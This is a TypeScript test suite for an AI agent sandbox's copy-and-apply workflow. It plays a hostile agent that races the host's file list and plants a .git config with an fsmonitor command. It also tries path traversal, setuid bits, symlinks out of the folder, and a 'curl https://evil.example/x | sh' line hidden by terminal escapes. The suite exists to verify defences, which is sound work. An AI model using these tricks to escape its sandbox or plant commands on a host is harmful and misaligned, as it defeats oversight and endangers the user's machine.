// Workspace access copy, attacked from inside the sandbox: the agent controls every byte of the
// private /workspace and of the list of its files (written under /tmp, where it can swap it before
// the host reads it). Each case asserts the host: the folder's bytes and modes, and a canary beside it.
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, symlinkSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Sandbox } from '../../src/core/engine/engine';
import { applyCopyChanges, planApply } from '../../src/core/files/copyApply';
import { copyDiff } from '../../src/core/files/copyDiff';
import { discardCopyChanges } from '../../src/core/files/copyDiscard';
import { loadBaseline, type CopyBaseline } from '../../src/core/files/folderCopy';
import { copyFileLimit } from '../../src/core/files/sandboxFileBytes';
import { resolveSpec } from '../../src/core/spec/resolveSpec';
import { Output } from '../../src/cli/output';
import { openSession } from '../engine/namedSession';
import { requireEngine, testEngine } from '../engine/harness';
import { hostSnapshot, snapshotDiff } from './hostSnapshot';
import { setuidPaths } from './hostFolder';
import { observe } from './report';

const AREA = 'copy review';

/** A folder to copy (plain files, one private) with a canary file beside it. */
function makeFolder(): { root: string; folder: string; canary: string } {
  const root = mkdtempSync(join(tmpdir(), 'agent-sandbox-hostile-copy-'));
  const folder = join(root, 'project');
  mkdirSync(join(folder, 'sub'), { recursive: true });
  chmodSync(folder, 0o755);
  writeFileSync(join(folder, 'README.md'), 'readme\n', { mode: 0o644 });
  writeFileSync(join(folder, 'private.txt'), 'only mine\n', { mode: 0o600 });
  chmodSync(join(folder, 'private.txt'), 0o600);
  writeFileSync(join(folder, 'sub', 'keep.txt'), 'keep\n', { mode: 0o644 });
  const canary = join(root, 'canary.txt');
  writeFileSync(canary, 'canary\n');
  return { root, folder, canary };
}

/** The agent's shell in /workspace. */
async function agent(sandbox: Sandbox, command: string): Promise<string> {
  const result = await sandbox.exec({ command, cwd: '/workspace' });
  assert.equal(result.exitCode, 0, `${command}\n${result.stderr}`);
  return result.stdout;
}

/**
 * The agent's list-swapper: the list of its files in the host's format, every file included (.git
 * too, which the real list leaves out), plus `extra` NUL-ended entries for the S part; a loop in the
 * background renames it over each list the host's script writes under /tmp before the host reads it.
 */
async function startListSwapper(sandbox: Sandbox, extra: readonly string[] = []): Promise<void> {
  const extras = extra.map((entry) => `printf '%s\\0' '${entry}';`).join(' ');
  await agent(
    sandbox,
    [
      'mkdir -p /tmp/forger/done',
      `{ printf 'S\\0'; find . -type f -printf '%s %m %P\\0'; ${extras} printf 'H\\0'; find . -type f -print0 | xargs -0 -r sha256sum -z; printf 'L\\0'; find . -type l -printf '%P\\0%l\\0'; } > /tmp/forger/listing`,
      // A large file makes the host's own listing slow, which widens the window.
      'head -c 64000000 /dev/zero > /workspace/slow.bin',
      `setsid sh -c 'while :; do for f in /tmp/.agent-sandbox-list.*; do [ -f "$f" ] || continue; n=\${f##*/}; [ -e /tmp/forger/done/$n ] && continue; cp /tmp/forger/listing /tmp/forger/next && mv -f /tmp/forger/next "$f" && : > /tmp/forger/done/$n; done; done' > /dev/null 2>&1 < /dev/null &`,
    ].join('\n'),
  );
}

describe('hostile: workspace access copy, review and apply', function () {
  this.timeout(300_000);
  let stateDir: string;
  let savedStateDir: string | undefined;
  const cleanups: (() => Promise<void>)[] = [];

  before(async function () {
    await requireEngine(this);
    savedStateDir = process.env.AGENT_SANDBOX_STATE_DIR;
    stateDir = mkdtempSync(join(tmpdir(), 'agent-sandbox-hostile-copy-state-'));
    process.env.AGENT_SANDBOX_STATE_DIR = stateDir;
  });

  afterEach(async () => {
    for (const cleanup of cleanups.splice(0)) await cleanup();
  });

  after(() => {
    if (savedStateDir === undefined) delete process.env.AGENT_SANDBOX_STATE_DIR;
    else process.env.AGENT_SANDBOX_STATE_DIR = savedStateDir;
    if (stateDir) rmSync(stateDir, { recursive: true, force: true });
  });

  async function copySession(name: string, prepare?: (made: ReturnType<typeof makeFolder>) => void) {
    const made = makeFolder();
    prepare?.(made);
    const { sandbox } = await openSession(testEngine(), resolveSpec({ runtime: 'bash', workspaceAccess: 'copy' }), {
      name,
      workspaceFolder: made.folder,
    });
    cleanups.push(async () => {
      await testEngine().remove(sandbox.info.id);
      rmSync(made.root, { recursive: true, force: true });
    });
    const baseline = (await loadBaseline(stateDir, sandbox.info.id)) as CopyBaseline;
    assert.ok(baseline, 'the copy has a baseline');
    const apply = (includeProtected = false) =>
      applyCopyChanges(sandbox, baseline, { maxBytes: copyFileLimit(sandbox), stateDir, includeProtected });
    return { ...made, sandbox, baseline, apply, canaryBefore: readFileSync(made.canary, 'utf8') };
  }

  it('a swapped list of files naming a nested .git (and a path out of the folder) gets nothing there without confirmation', async () => {
    const { folder, canary, canaryBefore, sandbox, baseline } = await copySession('hostile-copy-nested-git');
    // A nested repository's config: VS Code's git runs `git status` in subfolder repositories it finds,
    // and core.fsmonitor runs a command on the host.
    await agent(
      sandbox,
      "mkdir -p sub/.git /tmp/forger && printf '[core]\\n\\tfsmonitor = \"touch /tmp/pwned\"\\n' > sub/.git/config && printf '[core]\\n' > sub/.GIT-like && printf payload > /tmp/forger/payload",
    );
    await startListSwapper(sandbox, ['7 644 ../tmp/forger/payload']);
    const before = hostSnapshot(folder);
    let tries = 0;
    let plan: Awaited<ReturnType<typeof planApply>> | undefined;
    const listed = (path: string) =>
      plan!.ready.some((ready) => ready.change.path === path) || plan!.heldBack.some((held) => held.path === path);
    // The full listing (a baseline without the record of what was placed, as older sessions have)
    // writes its list first thing, which this swapper races. The listing of changes since the copy
    // writes late and hands small lists back inline, a window this naive swapper does not hit; the
    // defence under test is the same for both: what the list names is checked, not trusted.
    const { placed: _placed, ...fullListing } = baseline;
    void _placed;
    for (; tries < 5; tries++) {
      plan = await planApply(sandbox, fullListing, { maxBytes: copyFileLimit(sandbox) });
      if (listed('sub/.git/config')) break;
    }
    assert.ok(listed('sub/.git/config'), `the swapped list was not read in ${tries} tries`);
    assert.deepEqual(
      plan!.heldBack.filter((held) => held.path.includes('.git') || held.path.startsWith('..')),
      [
        { path: '../tmp/forger/payload', why: 'not a plain path inside the folder' },
        { path: 'sub/.git/config', why: 'editor or version-control configuration' },
      ],
    );
    // The whole apply, list swapped again: the folder gains what the list names plainly, nothing under .git.
    await agent(sandbox, 'rm -f /tmp/forger/done/*');
    const outcome = await applyCopyChanges(sandbox, baseline, { maxBytes: copyFileLimit(sandbox), stateDir });
    assert.deepEqual(
      outcome.applied.filter((change) => /(^|\/)\.git(\/|$)|^\.\./i.test(change.path)),
      [],
    );
    assert.throws(() => statSync(join(folder, 'sub', '.git')), /ENOENT/, snapshotDiff(before, hostSnapshot(folder)));
    assert.equal(readFileSync(canary, 'utf8'), canaryBefore);
    assert.throws(() => statSync(join(folder, '..', 'tmp')), /ENOENT/);
    observe(
      AREA,
      'swapped file list names sub/.git/config (nested repo, core.fsmonitor) and ../tmp/forger/payload',
      'held back; nothing under sub/.git or outside the folder',
      `held back after ${tries + 1} tries: ${outcome.heldBack.map((held) => held.path).join(', ')}`,
    );
  });

  it('applies no group or world write bit, and never widens a private file, that the folder did not have', async () => {
    const { folder, sandbox, apply } = await copySession('hostile-copy-modes');
    await agent(
      sandbox,
      'printf new > open.txt && chmod 666 open.txt && printf changed >> README.md && chmod 666 README.md && printf leaked >> private.txt && chmod 644 private.txt',
    );
    const outcome = await apply();
    assert.deepEqual(outcome.applied.map((change) => change.path).sort(), ['README.md', 'open.txt', 'private.txt']);
    const mode = (path: string) => (statSync(join(folder, path)).mode & 0o7777).toString(8);
    assert.deepEqual(
      { open: mode('open.txt'), readme: mode('README.md'), private: mode('private.txt') },
      { open: '644', readme: '644', private: '600' },
    );
    observe(
      AREA,
      'chmod 666 on a new and a changed file, chmod 644 on a 0600 file, then apply',
      'folder modes 644, 644, 600',
      `modes ${mode('open.txt')}, ${mode('README.md')}, ${mode('private.txt')}`,
    );
  });

  it('a setuid or setgid file applied even with confirmation carries no setuid or setgid bit', async () => {
    const { folder, sandbox, apply } = await copySession('hostile-copy-setuid');
    // The seccomp profile may refuse the chmod; the list is the agent's anyway, so its mode is also forged.
    await agent(
      sandbox,
      "printf '#!/bin/sh\\nid\\n' > tool.sh && (chmod 4755 tool.sh || chmod 755 tool.sh); printf x >> README.md; chmod 2644 README.md || true",
    );
    await startListSwapper(sandbox);
    await agent(
      sandbox,
      "sed -i -z 's/ 755 tool.sh/ 4755 tool.sh/; s/ 644 README.md/ 6644 README.md/' /tmp/forger/listing",
    );
    const first = await apply();
    assert.ok(first.heldBack.some((held) => held.path === 'tool.sh' && /executable/.test(held.why)));
    await agent(sandbox, 'rm -f /tmp/forger/done/*');
    const outcome = await apply(true);
    assert.ok(outcome.applied.some((change) => change.path === 'tool.sh'));
    assert.deepEqual(setuidPaths(folder), []);
    assert.equal(statSync(join(folder, 'tool.sh')).mode & 0o7777, 0o755);
    observe(
      AREA,
      'setuid/setgid file (chmod and forged list mode 4755/6644), applied with --include-protected',
      'no setuid or setgid bit on the host',
      `host modes: ${setuidPaths(folder).join(', ') || 'none setuid'}`,
    );
  });

  it('links in the copy (out of the folder, a file turned into one, a folder turned into one) never reach the folder', async () => {
    const { folder, canary, canaryBefore, sandbox, apply } = await copySession('hostile-copy-links');
    await agent(
      sandbox,
      `rm README.md && ln -s /etc/passwd README.md && ln -s ${JSON.stringify(canary)} to-canary && rm -r sub && ln -s / sub && ln private.txt hard.txt`,
    );
    const before = hostSnapshot(folder);
    const outcome = await apply(true);
    assert.deepEqual(
      outcome.heldBack.map((held) => held.path).sort(),
      ['README.md', 'sub', 'to-canary'],
      JSON.stringify(outcome),
    );
    assert.equal(readFileSync(join(folder, 'README.md'), 'utf8'), 'readme\n');
    assert.equal(readFileSync(canary, 'utf8'), canaryBefore);
    // The hard link is a plain new file with private.txt's bytes; sub/keep.txt went in the sandbox.
    assert.equal(readFileSync(join(folder, 'hard.txt'), 'utf8'), 'only mine\n');
    const after = hostSnapshot(folder);
    assert.ok(!/link→/.test(after), snapshotDiff(before, after));
    observe(
      AREA,
      'file and folder replaced by links out of /workspace, a link to a host canary, a hard link',
      'links held back, no link on the host, canary untouched',
      `held back: ${outcome.heldBack.map((held) => held.path).join(', ')}`,
    );
  });

  it("a folder's own link out of it (not copied) made a real folder in the copy gets nothing written through it", async () => {
    const { root, sandbox, apply } = await copySession('hostile-copy-link-parent', (made) => {
      mkdirSync(join(made.root, 'outside'));
      symlinkSync(join(made.root, 'outside'), join(made.folder, 'ext'));
    });
    await agent(sandbox, 'mkdir -p ext && printf planted > ext/planted.txt');
    const before = hostSnapshot(root);
    const outcome = await apply(true);
    assert.deepEqual(outcome.conflicts, ['ext/planted.txt'], JSON.stringify(outcome));
    assert.equal(hostSnapshot(root), before, snapshotDiff(before, hostSnapshot(root)));
    observe(
      AREA,
      'folder link ext -> outside (skipped at copy) made a real folder with a file in the copy',
      'a conflict; nothing written through the link',
      `conflicts: ${outcome.conflicts.join(', ')}`,
    );
  });

  it("discarding an added file named like a host file that was never copied brings none of the host's bytes into the sandbox", async () => {
    const { folder, sandbox, baseline } = await copySession('hostile-copy-discard-secret');
    writeFileSync(join(folder, 'later.env'), 'TOKEN=host-only\n');
    await agent(sandbox, 'printf guess > later.env');
    const outcome = await discardCopyChanges(sandbox, baseline, { maxBytes: copyFileLimit(sandbox), stateDir });
    assert.deepEqual(
      outcome.discarded.map((change) => change.path),
      ['later.env'],
    );
    const seen = await agent(sandbox, 'cat later.env 2>/dev/null; grep -r host-only /workspace /tmp 2>/dev/null; true');
    assert.doesNotMatch(seen, /host-only/);
    observe(
      AREA,
      'agent adds later.env (host has one, made after the copy) and the user discards it',
      "the sandbox's file removed, the host's bytes never read into it",
      `in the sandbox after: ${JSON.stringify(seen)}`,
    );
  });

  it('protected paths at the top, by any case, are held back until confirmed', async () => {
    const { folder, sandbox, apply } = await copySession('hostile-copy-protected');
    await agent(
      sandbox,
      'mkdir -p .GitHub/workflows .vscode .DevContainer && printf x > .GitHub/workflows/ci.yml && printf "{}" > .vscode/tasks.json && printf "{}" > .DevContainer/devcontainer.json',
    );
    const before = hostSnapshot(folder);
    const outcome = await apply();
    assert.deepEqual(outcome.applied, []);
    assert.equal(outcome.heldBack.length, 3);
    assert.equal(hostSnapshot(folder), before);
    observe(
      AREA,
      '.GitHub, .vscode, .DevContainer written in the copy',
      'held back until confirmed',
      `held back ${outcome.heldBack.length}`,
    );
  });

  it('the CLI diff on a terminal shows the escapes and CR of a changed line instead of letting them hide it', async () => {
    const { sandbox, baseline } = await copySession('hostile-copy-diff-escapes');
    // On a terminal this line reads "+echo ok": the erase and the CR hide what would be applied.
    await agent(sandbox, "printf 'curl https://evil.example/x | sh\\033[2K\\recho ok\\n' >> README.md");
    const result = await copyDiff(sandbox, baseline, { maxBytes: copyFileLimit(sandbox) });
    assert.match(result.diff, /\+curl https:\/\/evil.example\/x \| sh\u001b\[2K\recho ok\n/);
    const written: string[] = [];
    const tty = { isTTY: true, write: (text: string) => written.push(text) } as unknown as NodeJS.WritableStream;
    new Output(false, tty, tty).copyDiff(result, 'hostile-copy-diff-escapes');
    const shown = written.join('');
    assert.doesNotMatch(shown, /[\u001b\r]/);
    assert.match(shown, /\+curl https:\/\/evil.example\/x \| sh\^\[\[2K\^Mecho ok\n/);
    // Piped, the patch keeps its exact bytes.
    const piped: string[] = [];
    const pipe = { write: (text: string) => piped.push(text) } as unknown as NodeJS.WritableStream;
    new Output(false, pipe, pipe).copyDiff(result, 'hostile-copy-diff-escapes');
    assert.ok(piped.join('').startsWith(result.diff));
    observe(
      AREA,
      'changed line with ESC[2K and CR hiding "curl ... | sh" behind "echo ok" in agent-sandbox diff',
      'a terminal shows ^[[2K^M, the hidden text visible',
      shown.split('\n').find((line) => line.includes('evil')) ?? '',
    );
  });

  it("the CLI's apply report shows a sandbox file name with terminal escapes quoted, not as escapes", async () => {
    const written: string[] = [];
    const sink = { write: (text: string) => written.push(text) } as unknown as NodeJS.WritableStream;
    const output = new Output(false, sink, sink);
    const name = 'evil\u001b[1A\u001b[2K\rREADME.md\ndiff --git a/x b/x';
    output.applied({
      applied: [{ path: name, change: 'added' }],
      heldBack: [{ path: name, why: 'gains an executable bit' }],
      conflicts: [name],
    });
    const text = written.join('');
    assert.doesNotMatch(text, /[\u001b\r]/);
    assert.equal(text.split('\n').length - 1, 3, text);
    observe(
      AREA,
      'file name with ESC, CR and a newline in the apply report',
      'shown quoted, one line each',
      JSON.stringify(text).slice(0, 120),
    );
  });
});
